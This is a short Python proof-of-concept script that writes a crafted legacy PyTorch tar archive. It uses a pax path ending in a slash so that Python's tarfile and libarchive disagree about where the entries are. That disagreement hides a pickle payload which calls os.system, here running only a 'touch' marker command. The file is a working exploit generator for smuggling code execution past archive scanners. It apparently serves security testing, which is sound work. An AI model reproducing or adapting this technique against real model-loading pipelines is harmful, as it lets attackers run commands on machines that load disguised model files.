"""Legacy torch tar: a member whose pax 'path' is 'storages/' and whose type is '0' (regular).
Python's tarfile strips the trailing '/' (member 'storages', a regular file with its data); libarchive
treats a regular entry named '.../' as a directory with no data, and reads that data block as a header.
usage: python3 tar_pax_path_slash.py OUT MARKER"""
import sys

def header(name, size, typeflag=b"0"):
    b = bytearray(512)
    b[0:len(name)] = name
    b[100:108] = b"0000644\0"
    b[108:116] = b"0000000\0"
    b[116:124] = b"0000000\0"
    b[124:136] = b"%011o\0" % size
    b[136:148] = b"00000000000\0"
    b[148:156] = b" " * 8
    b[156:157] = typeflag
    b[257:263] = b"ustar\0"
    b[263:265] = b"00"
    b[148:156] = b"%06o\0 " % sum(b)
    return bytes(b)

def pad(b):
    return b + b"\0" * (-len(b) % 512)

PATH = b"storages/"

def pax_record(key, value):
    body = b" " + key + b"=" + value + b"\n"
    n = len(body) + 1
    while len(str(n)) + len(body) != n:
        n += 1
    return str(n).encode() + body

def main(out, marker):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    rec = pax_record(b"path", PATH)
    blocks = [header(b"PaxHeader/x", len(rec), b"x"), pad(rec),
              header(b"x", 512),
              header(payload, 0)]      # Python: the member's 512 data bytes; libarchive: a header
    for name, data in ((b"tensors", b"\x80\x02K\x00."), (b"pickle", b"\x80\x02}q\x00.")):
        blocks += [header(name, len(data)), pad(data)]
    blocks.append(b"\0" * 1024)
    open(out, "wb").write(b"".join(blocks))

if __name__ == "__main__":
    main(*sys.argv[1:])
